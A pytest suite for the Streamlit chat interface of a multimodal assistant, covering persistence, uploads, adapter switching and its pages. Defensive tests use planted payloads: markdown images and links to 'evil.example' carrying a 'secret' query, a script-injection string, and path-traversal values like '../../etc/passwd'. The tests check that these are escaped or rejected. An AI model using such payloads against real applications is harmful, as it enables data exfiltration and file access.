"""The Streamlit UI's page logic with `streamlit.testing.v1.AppTest` on the tiny random LLaVA (real
transformers, peft, LangGraph flows, Chroma): chat turns, adapter switch without a reload, persistence
across sessions, errors in the chat, the memory and eval pages; plus uploads, export and imports."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from mmagent.tools.base import Source
from mmagent.ui.attachments import UploadError, safe_name, store_upload
from mmagent.ui.sidebar import NO_ADAPTER, NO_COLLECTION
from mmagent.ui.state import ChatMessage, Conversation, ConversationStore

from mmagent.flows.base import SourceEvent

APP = Path(__file__).resolve().parents[1] / "ui" / "app.py"
TIMEOUT = 120


@pytest.fixture
def ui_env(tmp_path, monkeypatch, tiny_llava_dir, tiny_adapters):
    """A UI process configuration: the tiny model with adapters a and b, data and memory in tmp_path."""
    monkeypatch.chdir(tmp_path)
    for key in [k for k in __import__("os").environ if k.startswith("MMAGENT_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("MMAGENT_MODEL_ID", str(tiny_llava_dir))
    monkeypatch.setenv("MMAGENT_MODEL_MAX_NEW_TOKENS", "6")
    monkeypatch.setenv("MMAGENT_MODEL_REPETITION_PENALTY", "1.0")
    monkeypatch.setenv("MMAGENT_PATHS_DATA", str(tmp_path / "data"))
    monkeypatch.setenv("MMAGENT_MEMORY_PATH", str(tmp_path / "memory"))
    for name, path in tiny_adapters.items():
        monkeypatch.setenv(f"MMAGENT_ADAPTERS_{name.upper()}", str(path))
    return tmp_path


def app_test():
    from streamlit.testing.v1 import AppTest

    return AppTest.from_file(str(APP), default_timeout=TIMEOUT)


def saved(tmp_path: Path) -> list[Conversation]:
    return ConversationStore(tmp_path / "data" / "ui" / "conversations").list()


def ask(at, text: str):
    at.chat_input(key="chat_input").set_value(text).run()
    assert not at.exception, at.exception
    return at


# ---- pure logic ----------------------------------------------------------------------------------
def test_conversation_round_trip_and_markdown_export(tmp_path):
    store = ConversationStore(tmp_path)
    conv = Conversation(flow="qa", adapter="a", collection="docs")
    conv.add(ChatMessage("user", "What does the invoice say about payment terms in May?", images=["/x/cat.jpg"]))
    conv.add(ChatMessage("assistant", "Due 3 May [1].", sources=[SourceEvent(1, Source("/d/mail.pdf", page=2, score=0.61))],
                         handoff="the customer asked for a person", tickets=[7]))
    store.save(conv)
    back = store.load(conv.id)
    assert back == conv and back.title.startswith("What does the invoice say")
    assert back.handed_off and back.tickets == [7]
    md = back.to_markdown()
    assert "[1] `/d/mail.pdf` p. 2 (score 0.61)" in md and "ticket #7" in md and "attached image: `cat.jpg`" in md
    assert [c.id for c in store.list()] == [conv.id]
    with pytest.raises(Exception, match="12 hex digits"):
        store.load("../../etc/passwd")


def test_uploads_are_checked_and_named_safely(tmp_path, cat_photo):
    stored = store_upload("../../evil name!.JPG", cat_photo.read_bytes(), tmp_path, max_mb=5, max_pixels=10**8)
    assert Path(stored.path).parent.parent == tmp_path and Path(stored.path).name == "evil_name.jpg"
    assert stored.kind == "image" and Path(stored.path).read_bytes() == cat_photo.read_bytes()
    assert safe_name("..\\a\\b.md") == "b.md"
    with pytest.raises(UploadError, match="'broken.png' cannot be used as an image"):
        store_upload("broken.png", b"\x89PNG\r\n\x1a\n not really", tmp_path, max_mb=5, max_pixels=10**8)
    with pytest.raises(UploadError, match="over the 1 MB upload limit"):
        store_upload("big.txt", b"x" * 1_500_000, tmp_path, max_mb=1, max_pixels=10**8)
    with pytest.raises(UploadError, match="not a file type"):
        store_upload("tool.exe", b"MZ", tmp_path, max_mb=1, max_pixels=10**8)


PLANTED = [  # what a document, an OCR'd image, a transcript or the model itself might carry
    "# Planted heading\n[click me](http://evil.example/x) ![x](http://evil.example/?q=secret)",
    "<img src=http://evil.example/a.png> <script>alert(1)</script> &amp; &lt;",
    "1. one\n- two\n> quote\n***\n| a | b |\n|---|---|\n| 1 | 2 |\nSetext\n===",
    "*em* **strong** `code` ~~del~~ <http://evil.example> \\![x](y) _u_ :red[x] $x^2$",
    "line\\\nnext [ref]\n\n[ref]: http://evil.example/r\n\n[ref]",
]


@pytest.mark.parametrize("text", PLANTED)
def test_untrusted_text_renders_as_the_same_characters(text):
    """A CommonMark renderer turns plain(text) into one run of text per paragraph: no links, images,
    headings, emphasis, lists or HTML, and the characters shown are exactly the input's."""
    import html
    import re

    from markdown_it import MarkdownIt
    from mmagent.ui.plain import JOINER, plain

    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(plain(text))
    tags = set(re.findall(r"<(\w+)", rendered))
    assert tags <= {"p", "br"}, rendered
    shown = html.unescape(re.sub(r"<br />\n?", "\n", rendered).replace("</p>\n<p>", "\n\n"))
    assert shown.removeprefix("<p>").removesuffix("</p>\n").replace(JOINER, "") == text, rendered
    # GFM links bare addresses in the text that is left (Streamlit's renderer does): none may be left
    assert not re.search(r"(?i)https?://|\bwww\.|[\w.+-]@", shown), shown


def test_storage_paths_are_cut_to_file_names():
    from mmagent.ui.plain import hide_paths

    roots = ["/home/u/.local/share/mmagent", "/home/u/.local/share/mmagent/memory"]
    text = "PDF '/home/u/.local/share/mmagent/ui/documents/0a1b/report.pdf' could not be read (in /home/u/.local/share/mmagent)"
    assert hide_paths(text, roots) == "PDF 'report.pdf' could not be read (in …)"


def test_conversation_labels_tell_conversations_apart():
    from mmagent.ui.sidebar import conversation_labels

    noon = time.mktime((2026, 12, 1, 12, 0, 0, 0, 0, -1))
    a, b = Conversation(created=noon + 5), Conversation(created=noon + 42)
    c = Conversation(created=noon - 86400 * 3)
    for conv in (a, b, c):
        conv.add(ChatMessage("user", "What animal is in this photo?"))
    labels = conversation_labels([a, b, c], now=noon + 60)
    assert labels[a.id] == "What animal is in this photo? · 12:00:05"  # same words, same minute: seconds
    assert labels[b.id] == "What animal is in this photo? · 12:00:42"
    assert labels[c.id] == "What animal is in this photo? · 28 Nov 12:00"
    assert conversation_labels([a], now=noon)[a.id] == "What animal is in this photo? · 12:00"


def test_stop_ends_the_models_thread(ui_env, monkeypatch):
    """Closing a flow's run after Stop ends the generation within a token or two (the real tiny model and
    qa flow; LangGraph runs the node in a worker thread, which only the Stop event can end early)."""
    import threading

    from mmagent.config import load_config
    from mmagent.flows.base import TokenEvent, get_flow
    from mmagent.flows.qa import QARequest
    from mmagent.model import load_backend
    from mmagent.ui.resources import Stoppable, stoppable

    monkeypatch.setenv("MMAGENT_MODEL_MAX_NEW_TOKENS", "120")
    config = load_config()
    backend = load_backend(config)
    steps = []
    hook = backend.model.register_forward_hook(lambda *_: steps.append(1))
    flow = get_flow("qa", config, Stoppable(backend))

    def run(stop_after: int | None) -> int:
        steps.clear()
        stop = threading.Event()
        with stoppable(stop):
            events = flow.run(QARequest(question="Tell me a long story."))
            tokens = 0
            for event in events:
                tokens += isinstance(event, TokenEvent)
                if stop_after is not None and tokens >= stop_after:
                    break
        stop.set()
        events.close()
        assert not [t for t in threading.enumerate() if t.name == "mmagent-generate"]
        assert backend._lock.acquire(blocking=False)  # the next question need not wait
        backend._lock.release()
        return len(steps)

    full = run(None)
    stopped = run(2)
    hook.remove()
    assert full > 60, full  # the random model writes on to the token limit
    assert stopped < 10, (stopped, full)


def test_ui_modules_import_no_torch():
    code = ("import sys, time; t = time.perf_counter(); "
            "import mmagent.ui.chat, mmagent.ui.memory_page, mmagent.ui.eval_page, mmagent.cli.ui; "
            "heavy = [m for m in ('torch', 'transformers', 'chromadb', 'faster_whisper') if m in sys.modules]; "
            "print(heavy, round(time.perf_counter() - t, 2))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.startswith("[]"), out


def test_cli_ui_command_line():
    from mmagent.cli.ui import streamlit_command

    cmd = streamlit_command(8600, "127.0.0.1", 50)
    assert cmd[1:4] == ["-m", "streamlit", "run"] and Path(cmd[4]).name == "app.py" and Path(cmd[4]).is_file()
    assert cmd[cmd.index("--server.port") + 1] == "8600" and cmd[cmd.index("--server.address") + 1] == "127.0.0.1"
    assert cmd[cmd.index("--server.maxUploadSize") + 1] == "50"
    assert cmd[cmd.index("--browser.gatherUsageStats") + 1] == "false"  # nothing leaves the machine
    assert cmd[cmd.index("--server.enableStaticServing") + 1] == "false"


def test_page_icon_is_a_shipped_file():
    """A ':material/...:' or emoji page icon makes the browser fetch it from a CDN; ours is package data."""
    import tomllib
    from importlib.resources import files

    icon = files("mmagent.assets").joinpath("icon.png")
    assert icon.read_bytes().startswith(b"\x89PNG")
    globs = tomllib.loads((APP.parents[1] / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]
    assert "*.png" in globs["mmagent.assets"]


# ---- pages ---------------------------------------------------------------------------------------
def test_chat_streams_switches_adapter_without_reload_and_persists(ui_env, caplog):
    from mmagent.ui.resources import load_stats

    at = app_test().run()
    assert not at.exception, at.exception
    loads = load_stats().loads
    with caplog.at_level("INFO", logger="mmagent.ui"):
        ask(at, "Describe the image.")
    [conv] = saved(ui_env)
    assert [m.role for m in conv.messages] == ["user", "assistant"]
    first = conv.messages[1]
    assert first.kind == "text" and first.adapter is None and first.flow == "qa" and first.seconds is not None
    logged = re.findall(r"qa answer: first token ([0-9.]+) s after the flow started, [0-9.]+ s in all; the flow "
                        r"started ([0-9.]+) s into the page's run", caplog.text)  # ui_bench reads both
    assert len(logged) == 1 and 0 < float(logged[0][0]) <= first.seconds and 0 < float(logged[0][1]) < 30

    at.selectbox(key=f"adapter_{conv.id}").set_value("a").run()
    ask(at, "Describe the image.")
    [conv] = saved(ui_env)
    second = conv.messages[3]
    assert second.adapter == "a" and second.kind == "text"
    assert load_stats().loads == loads  # the base model was not loaded again
    assert load_stats().last_switch_seconds is not None
    assert any("Model loads:" in c.value for c in at.sidebar.caption)

    reopened = app_test().run()  # a new browser session (or a restart): the conversation comes back
    assert not reopened.exception
    texts = [m.value for m in reopened.text]
    assert "Describe the image." in texts  # drawn with st.text: never parsed as Markdown
    assert len(reopened.chat_message) == 4
    assert reopened.selectbox(key=f"adapter_{conv.id}").value == "a"


def test_errors_show_in_the_chat_and_the_app_keeps_running(ui_env):
    at = app_test().run()
    at.session_state["new_collections"] = ["ghost"]
    at.run()
    conv_id = at.session_state["conversation"].id
    at.selectbox(key=f"collection_{conv_id}").set_value("ghost").run()
    ask(at, "When is the invoice due?")
    assert any("ghost" in e.value and "does not exist" in e.value for e in at.error)
    [conv] = saved(ui_env)
    assert conv.messages[0].text == "When is the invoice due?"  # what was typed is kept
    assert conv.messages[1].kind == "error"
    at.selectbox(key=f"collection_{conv_id}").set_value(NO_COLLECTION).run()
    at.button[[b.label for b in at.button].index("Retry the last message")].click().run()
    assert not at.exception
    [conv] = saved(ui_env)
    assert conv.messages[-1].kind == "text" and conv.messages[-1].role == "assistant"


def test_a_model_that_cannot_load_is_a_message_not_a_crash(ui_env, monkeypatch):
    monkeypatch.setenv("MMAGENT_MODEL_ID", str(ui_env / "no-such-model"))
    at = app_test().run()
    assert not at.exception, at.exception
    assert any("could not be loaded" in e.value and "no\\-such\\-model" in e.value for e in at.error)  # escaped
    assert at.chat_input(key="chat_input") is not None  # the page is still there


def test_support_mode_shows_handoff_banner_and_ticket(ui_env):
    at = app_test().run()
    conv_id = at.session_state["conversation"].id
    at.selectbox(key=f"flow_{conv_id}").set_value("Customer service").run()
    ask(at, "I want to talk to a human agent please")
    [conv] = saved(ui_env)
    answer = conv.messages[-1]
    assert answer.handoff and answer.tickets
    ask(at, "Hello? Is anyone there?")  # after the hand-off the assistant only confirms it
    notices = [e.value for e in [*at.info, *at.warning, *at.error] if "handed off" in e.value.lower()]
    assert len(notices) == 1 and not at.error and not at.warning, notices  # once, as information
    assert f"#{answer.tickets[0]}" in notices[0]
    calls = [line for line in answer.tools if line.startswith("→")]
    assert calls and len(answer.tools) == 2 * len(calls)  # each call has its result line
    assert f"Tool calls ({len(calls)})" in [e.label for e in at.expander]
    assert at.code and all(c.proto.wrap_lines for c in at.code)  # long tool-call lines wrap, not cut off


def test_a_new_conversation_starts_from_the_defaults(ui_env):
    at = app_test().run()
    first = at.session_state["conversation"].id
    at.selectbox(key=f"flow_{first}").set_value("Customer service").run()
    at.selectbox(key=f"adapter_{first}").set_value("a").run()
    ask(at, "Where is my order 1001?")
    at.button[[b.label for b in at.button].index("New conversation")].click().run()
    conv = at.session_state["conversation"]
    assert conv.id != first and (conv.flow, conv.adapter, conv.collection) == ("qa", None, None)
    assert at.selectbox(key=f"flow_{conv.id}").value == "Question answering"
    assert at.selectbox(key=f"adapter_{conv.id}").value == NO_ADAPTER


def test_a_rerun_during_an_answer_ends_it_and_shows_what_was_written(ui_env):
    """Stop reruns the page: Streamlit starts the new run in another thread while the old one still
    streams. The new run ends the generation and waits until the old run has saved the stopped answer
    (the old run's part is played by a thread doing what run_turn's handler does)."""
    import threading

    from mmagent.ui.turns import Generation

    at = app_test().run()
    conv, generation = at.session_state["conversation"], Generation()

    def old_run() -> None:
        if generation.stop.wait(30):
            time.sleep(0.5)  # the flow's cleanup
            conv.add(ChatMessage("assistant", "Once upon a", stopped=True, seconds=1.5))
        generation.done.set()

    threading.Thread(target=old_run, daemon=True).start()
    at.session_state["_generating"] = generation
    at.run()
    assert not at.exception, at.exception
    assert generation.stop.is_set() and generation.done.is_set()
    assert "Once upon a" in [m.value for m in at.text]
    assert "Stopped after 1.5 s." in [c.value for c in at.caption]


def test_untrusted_text_in_the_chat_is_plain(ui_env):
    """Planted Markdown in an answer and in a source's excerpt reaches every Markdown element escaped."""
    from mmagent.ui.plain import plain

    planted = "# Planted\n[click](http://evil.example/x) ![x](http://evil.example/?q=secret)"
    store = ConversationStore(ui_env / "data" / "ui" / "conversations")
    conv = Conversation()
    conv.add(ChatMessage("user", "When does the cafeteria open? " + planted))
    conv.add(ChatMessage("assistant", "At 7:30 [1]. " + planted, sources=[
        SourceEvent(1, Source(str(ui_env / "planted.md"), excerpt=planted, score=0.5))]))
    store.save(conv)
    at = app_test().run()
    assert not at.exception, at.exception
    assert "At 7:30 [1]. " + planted in [t.value for t in at.text]  # st.text: not parsed at all
    assert plain(planted) in [c.value for c in at.caption]  # the excerpt, escaped
    markdown = [e.value for e in [*at.markdown, *at.caption]]
    assert all("](http" not in v and "![" not in v for v in markdown), markdown


def test_memory_page_lists_and_deletes_documents(ui_env):
    from streamlit.testing.v1 import AppTest

    from mmagent.config import load_config
    from mmagent.memory import ingest, open_memory

    notes = ui_env / "notes.md"
    notes.write_text("# Returns\nItems can be returned within 30 days with the receipt.\n")
    other = ui_env / "hours.txt"
    other.write_text("The shop opens at nine and closes at six on weekdays.\n")
    memory = open_memory(load_config().memory, "handbook")
    ingest([notes, other], memory, progress=False)

    def page():
        from mmagent.ui.memory_page import render

        render()

    at = AppTest.from_function(page, default_timeout=TIMEOUT).run()
    assert not at.exception, at.exception
    assert at.selectbox(key="memory_collection").value == "handbook"
    table = at.dataframe[0].value
    assert list(table.columns) == ["document", "chunks"] and sorted(table["document"]) == ["hours.txt", "notes.md"]
    assert sorted(at.multiselect[0].options) == ["hours.txt", "notes.md"]
    page_text = [str(e.value) for e in [*at.markdown, *at.caption, *at.info, *at.error, *at.subheader]]
    assert not [t for t in page_text if str(ui_env) in t]  # no storage paths on the page
    stored_notes = next(s for s in memory.sources() if s.endswith("notes.md"))
    at.multiselect[0].select(stored_notes).run()
    at.button[[b.label for b in at.button].index("Delete 1 document(s)")].click().run()
    assert not at.exception
    assert [Path(s).name for s in memory.sources()] == ["hours.txt"]


def test_eval_page_shows_runs_and_compares_two(ui_env, tiny_llava_dir, tiny_adapters, monkeypatch):
    from mmagent.evals.runner import RunOptions, run_suite
    from mmagent.evals.suite import load_suite
    from streamlit.testing.v1 import AppTest

    from mmagent.config import load_config
    from mmagent.model import load_backend

    config = load_config()
    backend = load_backend(config)
    runs = ui_env / "eval-runs"
    for adapter in (None, "a"):
        run_suite(load_suite("squad_mini"), config, RunOptions(out=runs / "squad_mini" / (adapter or "base"),
                  adapter=adapter, limit=3, progress=False, resamples=100), backend)

    def page():
        from mmagent.ui.eval_page import render

        render()

    at = AppTest.from_function(page, default_timeout=TIMEOUT).run()
    assert not at.exception, at.exception
    shown = at.selectbox[0].value
    results = json.loads((Path(shown) / "results.json").read_text())
    table = at.dataframe[0].value
    f1 = table[table["metric"] == "f1"]["value"].iloc[0]
    assert f1 == pytest.approx(results["sections"]["squad"]["metrics"]["f1"])
    at.button[[b.label for b in at.button].index("Compare")].click().run()
    assert not at.exception
    deltas, diffs = at.dataframe[1].value, at.dataframe[2].value
    assert set(deltas["metric"]) == {f"{name}:{metric}" for name, section in results["sections"].items()
                                     for metric in section["metrics"]}
    assert "adapter" in set(diffs["field"])
